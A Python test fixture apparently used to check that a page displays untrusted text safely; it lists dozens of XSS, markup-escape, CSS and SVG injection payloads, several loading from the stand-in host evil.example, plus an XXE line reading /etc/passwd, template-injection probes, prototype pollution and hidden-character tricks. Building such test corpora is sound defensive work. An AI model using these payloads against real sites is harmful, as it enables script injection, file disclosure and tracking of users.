"""Collect attacks on a page that shows foreign text: markup, script data, attributes, styles, addresses, direction, encoding.

Each sets ``window.hacked``, asks for an address, or breaks the page where it is taken for anything but text.
"""

from __future__ import annotations

# Without a line break inside, so that each can be a paragraph of its own.
LINES = (
    # script in every context
    "<script>window.hacked = 1</script>",
    "</script><script>window.hacked = 2</script>",
    "<ScRiPt/src=data:,window.hacked=3></sCrIpT >",
    "<script\x0c>window.hacked=4</script\x0c>",
    "<script type=module>window.hacked=5</script>",
    "<script type=application/json id=data>{}</script>",
    "<script src=https://evil.example/x.js></script>",
    "<noscript><p title='</noscript><img src=x onerror=window.hacked=6>'>",
    "<template><script>window.hacked=7</script></template>",
    "<xmp></xmp><script>window.hacked=8</script>",
    # comments and data that swallow what follows
    "<!--<script>window.hacked = 9",
    "--><img src=x onerror=window.hacked=10>",
    "--!><img src=x onerror=window.hacked=11>",
    "<!--><img src=x onerror=window.hacked=12>-->",
    "]]><![CDATA[<script>window.hacked=13</script>",
    "<![CDATA[</script><script>window.hacked=14</script>]]>",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;",
    "</script><!-- <script> --> </script>",
    r"\u003cscript\u003ewindow.hacked=15\u003c/script\u003e",
    r"\x3cscript\x3ewindow.hacked=16\x3c/script\x3e",
    '{"__proto__": {"hacked": 17}}',
    '"],"suspects":[{"n":1,"msg":"<img src=x onerror=window.hacked=18>"}]}',
    # out of an attribute
    '"><svg onload=window.hacked=19>',
    "'><svg onload=window.hacked=20>",
    "' onmouseover='window.hacked=21' autofocus onfocus='window.hacked=21",
    '" onfocus="window.hacked=22" autofocus tabindex="1',
    "` onmouseover=`window.hacked=23`",
    "x onerror=window.hacked=24 y",
    "&quot;&gt;&lt;img src=x onerror=window.hacked=25&gt;",
    "&#34;&#62;&#60;img src=x onerror=window.hacked=26&#62;",
    "&#x22 onclick&#x3dwindow.hacked=27 &NewLine;&Tab;",
    's1" id="list" class="m" data-ids="1 2 3"',
    # styles
    "</style><style>body{display:none}</style>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<p style='position:fixed;inset:0;background:url(https://evil.example/y)'>over everything</p>",
    "expression(window.hacked=28) -moz-binding:url(https://evil.example/xbl)",
    "}*{background:url(https://evil.example/z)}",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    # SVG, MathML and embedded things
    "<svg><script>window.hacked=29</script></svg>",
    "<svg><animate onbegin=window.hacked=30 attributeName=x dur=1s>",
    "<svg><foreignObject><iframe srcdoc='<script>parent.hacked=31</script>'></iframe></foreignObject></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=window.hacked=32>#x'/></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.hacked=33>",
    "<iframe src=https://evil.example></iframe>",
    "<object data=https://evil.example/o.swf></object><embed src=https://evil.example/e>",
    "<img src=https://evil.example/pixel.gif srcset='https://evil.example/2x 2x'>",
    "<video poster=https://evil.example/p><source onerror=window.hacked=34></video>",
    "<audio src=https://evil.example/a autoplay>",
    "<input autofocus onfocus=window.hacked=35><select onfocus=window.hacked=36 autofocus>",
    "<details open ontoggle=window.hacked=37><marquee onstart=window.hacked=38>",
    # addresses and page structure
    "<a href=javascript:window.hacked=39>javascript:window.hacked=39</a>",
    "<a href='java\tscript:window.hacked=40'>j</a>",
    "<a href=data:text/html,<script>window.hacked=41</script>>d</a>",
    "<form action=https://evil.example><button formaction=javascript:window.hacked=42>go</button></form>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "</textarea></title></dialog></main></body></html><h1>another page</h1>",
    "</article></main><aside class=side>",
    "https://evil.example/auto-link and www.evil.example and mailto:a@evil.example",
    # templates and evaluation
    "{{ 7*7 }} {% raw %} {# gone #} ${window.hacked=43} `window.hacked=43`",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "__proto__ constructor toString hasOwnProperty",
    "#s1 #s=1&hide=x ?q=<img src=x onerror=window.hacked=44>",
    # names that would shadow what scripts rely on
    "<img name=getElementById><form id=data><input name=parentNode></form>",
    "<a id=suspects name=currentScript><a id=suspects name=localStorage>",
    # direction, hidden and broken characters
    "a\u202egnol eht\u202c b \u2066\u202eisolated\u2069",
    "\u202e\u202e\u202e everything backwards from here",
    "\u2067\u2068\u2066 never closed",
    "zero\u200bwidth\u200b\u200b\u200b, soft\xadhyphen, \ufeffmark, joiner\u200dhere",
    "tags \U000e0041\U000e0042\U000e0043 that no font shows",
    "null\x00byte and \x1b[31mred\x1b[0m and \x07bell and \x9bcsi",
    "\x1b]8;;https://evil.example\x07link\x1b]8;;\x07 \x1b]0;title\x07",
    "lone \ud83d surrogate and \udc00 another, noncharacter \ufffe\uffff",
    "::error file=x::workflow command ##[error]x ##vso[task.complete]y &lt;b&gt; &#x27; &amp;",
    "Z̴̡̢̛a͢l̶g̵o̷ " + "o\u0301\u0327" * 400,
    "W" * 3000,
    "😀 emoji family 👨\u200d👩\u200d👧 stay whole, 習 too",
    "مرحبا <b>بالعالم</b> \u200f and back",
    "＜script＞window.hacked=45＜/script＞ ‹script› ",
    "+ADw-script+AD4-window.hacked=46+ADw-/script+AD4-",
    "\x1b$B<script>window.hacked=47</script>\x1b(B",
)

# With line breaks, or of a size that needs an article of its own.
LONG = (
    "line\u2028separator and para\u2029graph",
    "<scr\nipt>window.hacked=48</scr\nipt>",
    "<img\r\nsrc=x\r\nonerror=window.hacked=49\r\n>",
    "a word of a megabyte: " + "x" * 1_000_000,
    "many angle brackets " + "<" * 20_000,
    "nesting " + "<b><i>" * 5_000,
)

ATTACKS = (*LINES, *LONG[:3])
